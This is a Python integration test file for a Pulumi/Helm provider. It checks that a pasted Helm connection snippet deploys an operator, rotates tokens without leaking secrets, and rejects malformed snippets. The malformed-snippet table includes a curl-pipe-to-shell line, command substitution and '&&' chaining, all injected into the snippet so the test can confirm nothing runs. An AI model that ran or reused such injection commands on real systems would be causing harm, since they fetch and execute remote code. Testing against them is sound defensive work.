"""The pasted connection snippet and the connection with no click, on the real engine, API server and Helm."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from codecanvas_provider.cluster import DEPLOYMENT, POD, SECRET, Cluster
from pulumi_codecanvas.keys import generate_private_key, public_key_pem
from tests.support.command_lines import CommandLines
from tests.support.helm_records import helm_history
from tests.support.names import unique
from tests.support.secret_search import find_secrets
from tests.support.stack import CHART, PROJECT, SERVER_URL, failed_checks, make_stack, write_program

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.support.stack import Stack
    from tools.cluster import LocalCluster
    from tools.pulumi_home import PulumiHome

pytestmark = pytest.mark.engine

OPERATOR = "codecanvas-operator"
FIRST = "hEr3-c0mes.the/f1rst+token=of-the_snippet"
SECOND = "and-n0w.the/s3cond+token=of-the_snippet"
ADDRESS = "http://s3cret-host.example.com:8098"


def write_snippet(namespace: str, token: str, *more: str) -> str:
    """A snippet as for a chart whose value names nobody told us."""
    return (
        f"helm upgrade --install {OPERATOR} {CHART} \\\n  --version 2025.1.0 --namespace {namespace}"
        f" --create-namespace --wait \\\n  --set connection.url={ADDRESS}"
        f" --set connection.token='{token}' {' '.join(more)}\n"
    )


def write_documented_snippet(namespace: str, operator: str, key: str) -> str:
    """A snippet with the public value names, which splits the namespaces."""
    return (
        f"helm upgrade --install {OPERATOR} {CHART} -n {operator} --set operator.secret.operatorServerUrl={SERVER_URL}"
        f" --set operator.secret.instanceId=number-seven-of-9 --set operator.targetNamespace={namespace}"
        f" --set-string 'operator.secret.jwtPrivateKey={key}'"
    )


def paste(stack: Stack, platform: str, snippet: str) -> None:
    """Do what the README says: hand the snippet to `pulumi config set` by standard input."""
    stack.write_config()
    path = f"{PROJECT}:platforms.{platform}.connectionSnippet"
    stack._manage("config", "set", "--secret", "--path", path, "--config-file", str(stack.config_file), stdin=snippet)
    config = yaml.safe_load(stack.config_file.read_text())["config"]
    stack.platforms = config[f"{PROJECT}:platforms"]


def operator_secret(admin: Cluster, namespace: str) -> dict[str, str]:
    secret = admin.get(SECRET, OPERATOR, namespace)
    assert secret is not None
    return {key: base64.b64decode(value).decode() for key, value in secret["data"].items()}


def operator_pods(admin: Cluster, namespace: str) -> set[str]:
    return {pod["metadata"]["uid"] for pod in admin.list_all(POD, namespace)}


def places_of(stack: Stack, seen: CommandLines) -> dict[str, bytes]:
    """Give everything that the stack's commands printed, wrote or were called with."""
    files = {str(path): path.read_bytes() for path in [*stack.stack_files(), stack.config_file]}
    return {**files, **printed_by(stack), "process arguments": "\n".join(seen.lines).encode()}


def printed_by(stack: Stack) -> dict[str, bytes]:
    """Give what each command of a stack printed and logged."""
    return {
        f"{number}: {' '.join(run.command[:2])}": (run.text + run.event_log).encode()
        for number, run in enumerate(stack.runs)
    }


def test_two_snippets_connect_rotate_and_show_nothing(stack: Stack, admin: Cluster) -> None:
    odd, documented, operators = unique("odd"), unique("documented"), unique("operators")
    key = generate_private_key()
    stack.set(odd, serverUrl=None, chart=None, values={"replicaCount": 2, "podLabels": {"tier": "gold"}})
    stack.set(documented, serverUrl=None, chart=None, operatorNamespace=operators)
    with CommandLines() as seen:
        paste(stack, odd, write_snippet(odd, FIRST, "--set-string podLabels.team=blue,podLabels.tier=tin"))
        paste(stack, documented, write_documented_snippet(documented, operators, key))
        shown = stack.preview("--diff").stdout
        for readable in (CHART, odd, documented, operators, OPERATOR, "2025.1.0"):
            assert readable in shown
        stack.up()
        assert stack.up("--expect-no-changes").changes == {}
        assert operator_secret(admin, odd)["jwtPrivateKey"] == FIRST
        assert operator_secret(admin, odd)["operatorServerUrl"] == ADDRESS
        assert operator_secret(admin, operators)["jwtPrivateKey"].strip() == key.strip()
        assert_values_are_merged(admin, odd)
        assert_outputs(stack, odd, documented, operators, key)

        before, others = operator_pods(admin, odd), operator_pods(admin, operators)
        paste(stack, odd, write_snippet(odd, SECOND, "--set-string podLabels.team=blue,podLabels.tier=tin"))
        stack.preview("--diff", "--json")
        rotated = stack.up("--diff")
        assert not {name for name in rotated.changes if name.startswith(documented)}
    assert operator_secret(admin, odd)["jwtPrivateKey"] == SECOND
    assert not before & operator_pods(admin, odd)
    assert others == operator_pods(admin, operators)
    history = helm_history(admin, odd)
    assert SECOND in history
    assert FIRST not in history

    stack.destroy()
    secrets = {"first token": FIRST, "second token": SECOND, "key": key}
    secrets |= {"another value": "s3cret-host.example", "id": "number-seven-of-9"}
    places = places_of(stack, seen)
    assert len(places) > 10
    assert any(odd.encode() in text for text in places.values())
    assert find_secrets(places, secrets) == []


def assert_values_are_merged(admin: Cluster, namespace: str) -> None:
    deployment = admin.get(DEPLOYMENT, OPERATOR, namespace)
    assert deployment is not None
    assert deployment["spec"]["replicas"] == 2
    labels = deployment["spec"]["template"]["metadata"]["labels"]
    assert (labels["team"], labels["tier"]) == ("blue", "gold")


def assert_outputs(stack: Stack, odd: str, documented: str, operators: str, key: str) -> None:
    outputs = stack.outputs(odd)
    assert (outputs["release_status"], outputs["chart_version"]) == ("deployed", "2025.1.0")
    assert (outputs["namespace"], outputs["operator_namespace"]) == (odd, odd)
    assert failed_checks(outputs) == []
    assert outputs.get("public_key") is None
    outputs = stack.outputs(documented)
    assert (outputs["namespace"], outputs["operator_namespace"]) == (documented, operators)
    assert outputs["public_key"] == public_key_pem(key)
    assert (outputs.get("instance_id"), outputs.get("application_values")) == (None, None)


MALFORMED: dict[str, tuple[Callable[[str], str], str]] = {
    "cut": (lambda good: good[: good.index(FIRST) + 9], "is never closed"),
    "unbalanced": (lambda good: good.replace("'", "", 1), "is never closed"),
    "two": (lambda good: f"{good}{good}", "a second command begins"),
    "joined": (lambda good: f"{good.strip()} && touch PATH", "`&&` joins the command"),
    "kubectl": (lambda _: f"kubectl create secret generic x --from-literal=a={FIRST}", "`kubectl`, not `helm`"),
    "curl": (lambda _: f"curl -fsSL https://example.com/{FIRST} | sh", "`|` joins the command"),
    "substituted": (lambda good: f"{good.strip()} --set a=$(touch PATH)", "nothing is ever run"),
    "renderer": (lambda good: f"{good.strip()} --post-renderer=PATH", "`--post-renderer` runs a program"),
    # Pulumi hands a program its config in one environment variable, of which Linux takes 128 KiB.
    "long": (lambda good: good + FIRST * 1_800, "longer than 64 KiB"),
    "control": (lambda good: good.replace(FIRST, f"{FIRST}\x1b[2J"), "control character (U+001B)"),
    "variable": (lambda good: good.replace(f"'{FIRST}'", "$TOKEN"), "environment variable TOKEN"),
    "reuse": (lambda good: f"{good.strip()} --reuse-values", "`--reuse-values` takes values over"),
}


def test_every_malformed_snippet_is_one_clear_error_in_preview_and_runs_nothing(stack: Stack, tmp_path: Path) -> None:
    names = {kind: unique(kind) for kind in MALFORMED}
    executed = tmp_path / "executed"
    renderer = tmp_path / "renderer"
    renderer.write_text(f"#!/bin/sh\ntouch {executed}\n")
    renderer.chmod(0o700)
    targets = {"renderer": renderer}
    for kind, (spoil, _) in MALFORMED.items():
        text = spoil(write_snippet(names[kind], FIRST)).replace("PATH", str(targets.get(kind, executed)))
        stack.set(names[kind], serverUrl=None, chart=None, connectionSnippet=stack.seal(text))
    clash = unique("clash")
    contradicting = {"chartVersion": "2024.3.0", "releaseName": "mine", "serverUrl": SERVER_URL, "tokenVersion": "2"}
    stack.set(clash, chart=None, connectionSnippet=stack.seal(write_snippet(clash, FIRST)), **contradicting)

    run = stack.preview(ok=False)

    lines = run.errors.splitlines()
    for kind, (_, says) in MALFORMED.items():
        [line] = [line for line in lines if f"platforms.{names[kind]}." in line]
        assert f"{PROJECT}:platforms.{names[kind]}.connectionSnippet: " in line
        assert says in line
    clashes = "\n".join(line for line in lines if f"platforms.{clash}." in line)
    assert "chartVersion: is `2024.3.0`, but the connection snippet says `2025.1.0`" in clashes
    assert f"releaseName: is `mine`, but the connection snippet says `{OPERATOR}`" in clashes
    assert "serverUrl: does not go with a connection snippet" in clashes
    assert "tokenVersion: does not go with a connection snippet" in clashes
    assert find_secrets({"output": (run.text + run.event_log).encode()}, {"token": FIRST, "half": FIRST[:16]}) == []
    assert not executed.exists()
    assert stack.names() <= {f"{PROJECT}-{stack.name}"}


PROGRAM = """
import pathlib

import pulumi
from pulumi_codecanvas import ComputingPlatform

config = pulumi.Config()
file = pathlib.Path("snippet.txt")
snippet = file.read_text() if file.exists() else config.require_secret("snippet")
platform = ComputingPlatform(
    config.require("name"), connection_snippet=snippet, values=config.get_object("values")
)
pulumi.export("namespace", platform.namespace)
pulumi.export("application_values", platform.application_values)
"""


def test_a_program_s_secret_output_is_read_like_plain_text(
    home: PulumiHome, shared_cluster: LocalCluster, admin: Cluster, tmp_path: Path
) -> None:
    program = write_program(tmp_path / "program", {"__main__.py": PROGRAM})
    with make_stack(home, shared_cluster.kubeconfig, [admin], program=program) as stack:
        name = unique("program")
        stack.config = {"codecanvas:name": name, "codecanvas:snippet": stack.seal(write_snippet(name, FIRST)[:-20])}
        broken = stack.preview(ok=False)
        assert "connectionSnippet: line 3: a quotation mark is never closed" in broken.errors
        stack.config["codecanvas:snippet"] = stack.seal(write_snippet(name, FIRST))
        stack.config["codecanvas:values"] = {"operator": {"targetNamespace": "elsewhere"}}
        assert "comes from the connection snippet" in stack.preview(ok=False).errors
        del stack.config["codecanvas:values"]
        shown = stack.preview("--diff").stdout
        assert f'"{name}"' in shown
        (program / "snippet.txt").write_text(FIRST * 25_000)
        assert "connection_snippet: the text is longer than 64 KiB" in stack.preview(ok=False).errors
        (program / "snippet.txt").unlink()
        # As config, a megabyte does not even reach the program.
        stack.config["codecanvas:snippet"] = stack.seal(FIRST * 25_000)
        stack.preview(ok=False)
        assert find_secrets(printed_by(stack), {"token": FIRST, "another value": "s3cret-host.example"}) == []


def codecanvas(stack: Stack, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run the command line as a user in the stack's project."""
    program = Path(sys.prefix) / "bin" / "codecanvas"
    return subprocess.run(
        [program, *arguments, "--stack", stack.name, "--cwd", str(stack.project)],
        env=stack.environment,
        capture_output=True,
        text=True,
        check=False,
    )


def preloaded(text: str) -> dict[str, Any]:
    """Take out of the application's values what it preloads."""
    operator = yaml.safe_load(text)["application"]["config"]["codecanvas"]["execution"]["k8s"]["operator"]
    found: dict[str, Any] = operator["preloadConfiguration"]
    return found


def test_generated_keys_connect_with_no_click(stack: Stack, admin: Cluster) -> None:
    eu, us = unique("eu"), unique("us")
    stack.set(eu)
    # A secret anywhere in the config seals every instance ID in the state.
    stack.set(us, instanceId="number-two", serverUrl=stack.seal(SERVER_URL))
    stack.up()
    several = codecanvas(stack, "application-values")
    assert several.returncode == 2
    assert several.stdout == ""
    assert f"{eu}, {us}" in several.stderr
    first = preloaded(codecanvas(stack, "application-values", "--platform", eu).stdout)
    assert first["jwtPublicKey"] == public_key_pem(operator_secret(admin, eu)["jwtPrivateKey"])
    assert first["instanceId"] == operator_secret(admin, eu)["instanceId"]
    assert (first["name"], first["namespace"]) == (eu, eu)
    assert set(first["instanceType"]) == {"name", "cpuCores", "memoryMiB", "volumeMiB"}
    every = yaml.safe_load(codecanvas(stack, "application-values", "--all").stdout)
    assert preloaded(yaml.safe_dump(every[us]))["instanceId"] == "number-two"
    assert preloaded(yaml.safe_dump(every[eu])) == first
    stack.set(eu, tokenVersion="2")
    stack.up()
    second = preloaded(codecanvas(stack, "application-values", "--platform", eu).stdout)
    assert second["jwtPublicKey"] == public_key_pem(operator_secret(admin, eu)["jwtPrivateKey"])
    assert second == {**first, "jwtPublicKey": second["jwtPublicKey"]} != first


FLEET = """
import pulumi
from pulumi_codecanvas import ComputingPlatform

for name, given in pulumi.Config().require_object("fleet").items():
    ComputingPlatform(name, given, test_connection=False, skip_await=True)
"""


@pytest.mark.timeout(180)
@pytest.mark.parametrize("has_key", [False, True], ids=["pasted", "with a key"])
def test_more_platforms_than_the_engine_has_hands_come_up(
    home: PulumiHome, shared_cluster: LocalCluster, admin: Cluster, tmp_path: Path, *, has_key: bool
) -> None:
    hands = 2
    names = [unique("hands") for _ in range(3 * hands)]
    with_key = {"server_url": SERVER_URL, "chart": str(CHART)}
    fleet = {name: with_key if has_key else {"connection_snippet": write_snippet(name, FIRST)} for name in names}
    program = write_program(tmp_path / "program", {"__main__.py": FLEET})
    with make_stack(home, shared_cluster.kubeconfig, [admin], program=program) as stack:
        stack.config = {"codecanvas:fleet": json.dumps(fleet)}
        stack.up("--parallel", str(hands))
        assert {f"{name}-test" for name in names} <= stack.names()
        stack.destroy()
